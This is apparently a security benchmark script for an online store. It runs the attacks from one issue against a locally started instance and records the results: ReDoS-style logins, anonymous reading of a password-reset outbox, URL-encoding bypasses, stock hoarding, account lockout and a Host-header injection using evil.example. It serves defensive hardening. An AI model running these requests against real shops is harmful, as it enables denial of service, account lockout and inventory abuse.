// The attacks of issue 23, as figures: what an attacker does to a freshly started store
// (`npm start`'s defaults: embedded PGlite, the demo payment methods and outbox).
//   node bench/attacker.mjs          (ATTACK_ROOT=/path/to/another/checkout measures that build)
import { connect } from 'node:net';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { printRows, simpleProducts, startAbuseStore } from './lib/abuse-store.mjs';
import { shippingAddress } from './shop.mjs';

const root = process.env.ATTACK_ROOT ?? join(dirname(fileURLToPath(import.meta.url)), '..');
const store = await startAbuseStore(root, { name: 'attacker' });
const { api, shopper, freshIp, port } = store;
const results = [];
const ms = (started) => `${Math.round(performance.now() - started)} ms`;

/**
 * One request written as raw bytes, as fetch cannot send it (an absolute-form target, a Host of
 * the sender's choosing); its status and body.
 */
function raw(requestLine, host = `127.0.0.1:${port}`) {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1', () =>
      socket.write(`${requestLine}\r\nHost: ${host}\r\nConnection: close\r\n\r\n`),
    );
    let answer = '';
    socket.on('data', (chunk) => (answer += chunk.toString('latin1')));
    socket.on('end', () =>
      resolve({
        status: Number(/^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1] ?? 0),
        body: answer.slice(answer.indexOf('\r\n\r\n') + 4),
      }),
    );
    socket.on('error', reject);
  });
}

try {
  // 1. one login with a long run of dots, and a request sent while it is answered
  for (const dots of [20_000, 60_000]) {
    const started = performance.now();
    let loginMs = 0;
    const login = api('/api/v1/users/authorize', {
      method: 'POST',
      ip: freshIp(),
      body: { email: `a@${'.'.repeat(dots)}@`, password: 'whatever1' },
    }).then((r) => ((loginMs = performance.now() - started), r));
    // the login is being answered by then (or, on a build that refuses it at once, already has been)
    await new Promise((r) => setTimeout(r, 150));
    const sideStarted = performance.now();
    const side = await api('/api/v1/storeInfo');
    const sideMs = ms(sideStarted);
    const answer = await login;
    results.push([
      `login, e-mail "a@" + ${dots.toLocaleString('en-IN')} dots + "@"`,
      `${answer.status} after ${Math.round(loginMs)} ms; GET /storeInfo meanwhile ${side.status} in ${sideMs}`,
    ]);
  }

  // 2. the demo outbox, anonymously, after a victim asked for a password reset
  const victim = await shopper();
  await api('/api/v1/users/forgot-password', {
    method: 'POST',
    ip: victim.ip,
    body: { email: victim.email },
  });
  await new Promise((r) => setTimeout(r, 1500));
  const outbox = await api('/demo/outbox', { ip: '10.250.0.1' });
  const rows = (outbox.text.match(/data-testid="outbox-row"/g) ?? []).length;
  const resetRow = /data-kind="password_reset"/.test(outbox.text);
  results.push([
    'anonymous GET /demo/outbox',
    `${outbox.status}, ${rows} e-mail(s) listed${resetRow ? ', the reset e-mail among them' : ''}`,
  ]);

  // 3. odd spellings of an API URL
  const plain = await api('/api/v1/products?limit=1');
  const encoded = await api('/%61pi/v1/products?limit=1');
  const encodedLogin = await api('/%61pi/v1/users/authorize', {
    method: 'POST',
    ip: freshIp(),
    body: { email: victim.email, password: victim.password },
  });
  const absolute = (await raw(`GET http://127.0.0.1:${port}/api/v1/products?limit=1 HTTP/1.1`))
    .status;
  results.push([
    'GET /api/v1/products, /%61pi/v1/…, absolute-form',
    `${plain.status}, ${encoded.status}, ${absolute}; POST /%61pi/v1/users/authorize ${encodedLogin.status}`,
  ]);

  // 4. stock held by one account: cash-on-delivery orders of 12 units, then unpaid orders of 99
  const list = simpleProducts((await api('/api/v1/products?limit=100')).json.data);
  const price = (p) => p.discountedPrice ?? p.regularPrice;
  const cheap = list
    .filter((p) => price(p) * 12 < 5000 && (p.availability?.status ?? 'in_stock') === 'in_stock')
    .sort((a, b) => (b.availability?.quantity ?? 0) - (a.availability?.quantity ?? 0))[0];
  const hoarder = await shopper();
  let codOrders = 0;
  let codRefusal = '';
  for (let i = 0; i < 30; i++) {
    const order = await api('/api/v1/orders', {
      method: 'POST',
      token: hoarder.token,
      ip: hoarder.ip,
      body: { products: { [cheap.id]: 12 }, shippingAddress },
    });
    if (order.status !== 201) {
      codRefusal = `${order.status} "${order.json?.error}"`;
      break;
    }
    const cod = await api('/api/v1/payments', {
      method: 'POST',
      token: hoarder.token,
      ip: hoarder.ip,
      body: {
        orderId: order.json.id,
        fields: {
          method: 'cod',
          payerName: 'Asha Verma',
          email: hoarder.email,
          phone: '+919876543210',
          consent: true,
        },
      },
    });
    if (cod.status >= 300) {
      codRefusal = `payment ${cod.status} "${cod.json?.error}"`;
      break;
    }
    codOrders++;
  }
  results.push([
    `one account, COD orders of 12 × one product`,
    `${codOrders} placed (${codOrders * 12} units held)${codRefusal ? `, then ${codRefusal}` : ''}`,
  ]);

  const unpaid = await shopper();
  let unpaidOrders = 0;
  let unpaidUnits = 0;
  let unpaidRefusal = '';
  const stocked = list.filter((p) => (p.availability?.status ?? 'in_stock') === 'in_stock');
  for (let i = 0; i < 30; i++) {
    const p = stocked[i % stocked.length];
    const order = await api('/api/v1/orders', {
      method: 'POST',
      token: unpaid.token,
      ip: unpaid.ip,
      body: { products: { [p.id]: 99 }, shippingAddress },
    });
    if (order.status === 201) {
      unpaidOrders++;
      unpaidUnits += 99;
    } else if (order.status !== 409 || !/only|left|stock/i.test(order.json?.error ?? '')) {
      unpaidRefusal = `${order.status} "${order.json?.error}"`;
      break;
    }
  }
  results.push([
    'one account, unpaid orders of 99 units',
    `${unpaidOrders} placed (${unpaidUnits} units held)${unpaidRefusal ? `, then ${unpaidRefusal}` : ''}`,
  ]);

  // 5. strangers lock a known account out: the owner signed in before from their own browser
  const owner = await shopper();
  const first = await fetch(`${store.base}/api/v1/users/authorize`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-forwarded-for': owner.ip },
    body: JSON.stringify({ email: owner.email, password: owner.password }),
  });
  const cookie = (first.headers.getSetCookie?.() ?? []).map((c) => c.split(';')[0]).join('; ');
  let strangers429 = 0;
  for (let i = 0; i < 25; i++) {
    const r = await api('/api/v1/users/authorize', {
      method: 'POST',
      ip: freshIp(),
      body: { email: owner.email, password: 'wrong-password-1' },
    });
    if (r.status === 429) strangers429++;
  }
  const again = await api('/api/v1/users/authorize', {
    method: 'POST',
    ip: owner.ip,
    body: { email: owner.email, password: owner.password },
    headers: cookie ? { cookie } : {},
  });
  const fresh = await api('/api/v1/users/authorize', {
    method: 'POST',
    ip: freshIp(),
    body: { email: owner.email, password: owner.password },
  });
  results.push([
    "25 strangers' wrong passwords, then the owner",
    `owner's own browser ${again.status}, a new device ${fresh.status} (strangers: ${strangers429} × 429)`,
  ]);

  // 6. smaller ones
  const account = await api('/api/v1/accountInfo', { token: owner.token, ip: owner.ip });
  const robots = await raw('GET /robots.txt HTTP/1.1', 'evil.example');
  results.push([
    'GET /accountInfo Cache-Control',
    account.headers.get('cache-control') ?? '(none)',
  ]);
  results.push([
    'GET /robots.txt with Host: evil.example',
    robots.body.includes('evil.example') ? 'names evil.example' : 'keeps the store’s origin',
  ]);

  printRows(results);
} finally {
  await store.stop();
}
